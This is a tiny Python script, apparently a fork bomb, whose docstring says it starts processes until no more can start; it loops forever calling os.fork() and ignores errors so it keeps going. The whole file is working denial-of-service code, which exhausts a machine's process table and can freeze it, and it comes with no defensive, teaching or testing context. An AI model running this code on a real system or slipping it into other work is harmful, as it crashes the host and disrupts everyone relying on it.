"""Starts processes until it may start no more."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
